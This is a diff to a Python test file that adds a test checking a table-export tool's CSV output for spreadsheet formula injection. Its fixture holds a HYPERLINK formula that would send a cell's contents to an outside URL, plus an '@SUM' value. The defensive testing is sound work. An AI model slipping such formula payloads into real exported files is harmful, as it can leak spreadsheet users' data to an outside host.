@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -142,3 +143,17 @@ def test_a_table_that_is_read_is_not_written_over(hub: str, tmp_path: Path) -> N
         said = run("-p", hub, path, "--out", folder, "--parts", code=2)
         assert "is read by this run, and would be lost" in said
     assert len(part_files(folder)) == 1
+
+
+@pytest.mark.parametrize("as_parts", [False, True])
+def test_a_portfolios_results_hold_no_formula(as_parts: bool, hub: str, tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
+    pl.DataFrame({"id": ["a", "b"], "name": [evil, " @SUM(1)"], "call": ["all", "all"],
+                  "identify.group_size": [1.0, 2.0]}).write_parquet(tmp_path / "in.parquet")
+    out = tmp_path / "out.csv"
+    run("-p", hub, tmp_path / "in.parquet", "--out", out, *(["--parts"] if as_parts else []))
+    for path in out.iterdir() if as_parts else [out]:
+        text = path.read_text()
+        assert "HYPERLINK" in text
+        for row in csv.reader(text.splitlines()):
+            assert not [cell for cell in row if cell.lstrip().startswith(("=", "@"))]
